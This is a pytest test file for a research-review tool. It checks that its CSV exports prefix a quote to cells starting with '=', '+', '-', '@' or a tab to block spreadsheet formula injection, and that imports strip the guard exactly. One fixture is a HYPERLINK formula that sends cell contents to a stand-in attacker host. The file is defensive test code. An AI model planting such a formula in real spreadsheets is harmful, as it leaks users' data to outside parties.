"""Spreadsheet-safe CSV: formula-leading text is guarded in every CSV we write, read back whole.

Real cells: the Semantic Scholar title that starts with ``@`` in a recorded bulk-search page
(``../shared/apis/semanticscholar``). Constructed: ``=HYPERLINK``, ``+`` and ``-`` cells, tab.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from review.cli import main
from review.importers import read_file
from review.reporting import run_summary
from review.reporting.csvsafe import csv_text, safe_cell, unguard
from review.reporting.export import to_csv
from review.sources import semanticscholar as s2
from review.store import open_store

SharedPath = Callable[..., Path]
SRC = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Open full text")'
S2_PAGE = "s2client_search_bulk_kubernetes_token_2pages.interaction-2.json"


def cells(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


@pytest.mark.parametrize(
    "text", ["=1+1", "+45 12 34 56", "-3", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x"]
)
def test_formula_starts_are_guarded_and_unguarded_exactly(text: str) -> None:
    guarded = safe_cell(text)
    assert guarded == "'" + text
    assert unguard(guarded) == text


@pytest.mark.parametrize("text", ["Policing", "'Hard to reach' groups", "'", "", "1-2", " =x"])
def test_other_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text and unguard(text) == text


def test_numbers_stay_numbers_and_text_numbers_are_guarded() -> None:
    numbers = [-3, -1.5, Decimal("-2.0")]
    assert [safe_cell(v) for v in [*numbers, None]] == [*numbers, ""]
    assert csv_text(["year_diff", "volume"], [[-3, "-3"]]) == "year_diff,volume\n-3,'-3\n"


def test_export_guards_a_real_title_and_constructed_cells_and_reads_back(
    shared: SharedPath, tmp_path: Path
) -> None:
    page = s2.parse_page((shared("apis", "semanticscholar") / S2_PAGE).read_bytes())
    real = next(s2.to_record(item) for item in page.items if (item.get("title") or "")[:1] == "@")
    works: list[dict[str, Any]] = [
        {"work_id": "w_real", "title": real.title, "authors": real.authors, "year": real.year},
        {"work_id": "w_link", "title": LINK, "authors": ["+Plus, A.", "Smith, J."], "year": 2020,
         "volume": "-1", "note": "\tchecked twice", "decision": "exclude", "reasons": ["E-DESIGN"]},
    ]  # fmt: skip
    text = to_csv(works)
    rows = cells(text)
    assert rows["w_real"]["title"] == f"'{real.title}"
    assert rows["w_link"]["title"] == f"'{LINK}"
    assert rows["w_link"]["authors"] == "'+Plus, A.;Smith, J."
    assert rows["w_link"]["volume"] == "'-1" and rows["w_link"]["note"] == "'\tchecked twice"
    assert rows["w_link"]["year"] == "2020" and rows["w_link"]["included"] == "0"
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    back = {record.source_id: record for record in read_file(path).records}
    assert back["w_real"].title == real.title
    assert back["w_link"].title == LINK and back["w_link"].authors == ["+Plus, A.", "Smith, J."]
    assert back["w_link"].volume == "-1"


def test_import_removes_only_the_guard_before_a_formula_character(tmp_path: Path) -> None:
    path = tmp_path / "guarded.csv"
    path.write_text(
        "id,title\nr1,'=SUM(1)\nr2,'Hard to reach' groups\nr3,''@home\nr4,'-\n", encoding="utf-8"
    )
    titles = {record.source_id: record.title for record in read_file(path).records}
    assert titles == {"r1": "=SUM(1)", "r2": "'Hard to reach' groups", "r3": "'@home", "r4": "-"}


def test_query_csv_guards_text_and_keeps_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db, sql = tmp_path / "e.duckdb", tmp_path / "q.sql"
    with open_store(db):
        pass
    sql.write_text(f"SELECT '{LINK.replace(chr(39), chr(39) * 2)}' AS title, -3 AS year_diff, "
                   "'-3' AS pages, NULL AS note, 1.5 AS score\n")  # fmt: skip
    assert main(["query", str(sql), "--format", "csv", "--db", str(db)]) == 0
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row == {"title": f"'{LINK}", "year_diff": "-3", "pages": "'-3", "note": "",
                   "score": "1.5"}  # fmt: skip


def test_a_runs_decision_exports_are_guarded(seeded_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "copy.duckdb"
    shutil.copy(seeded_db, db)
    with open_store(db) as con:
        (work_id,) = con.execute("SELECT min(work_id) FROM works").fetchone() or ("",)
        con.execute("UPDATE works SET title = ? WHERE work_id = ?", [LINK, work_id])
    [written] = run_summary.export_decisions(db, ["sfi-crime"])
    rows = cells(written.read_text(encoding="utf-8"))
    assert rows[work_id]["title"] == f"'{LINK}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values()
                   for cell in row.values())  # fmt: skip


def test_every_csv_we_write_goes_through_csvsafe() -> None:
    """Any other csv.writer in src/ or flows/ would write formula cells as they are."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|COPY .* TO .*csv", re.IGNORECASE)
    found = [
        f"{path.relative_to(SRC)}:{number}"
        for folder in (SRC / "src", SRC / "flows")
        for path in sorted(folder.rglob("*.py"))
        if path.name != "csvsafe.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert found == []


def test_export_help_says_cells_are_guarded(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    assert "OWASP" in capsys.readouterr().out
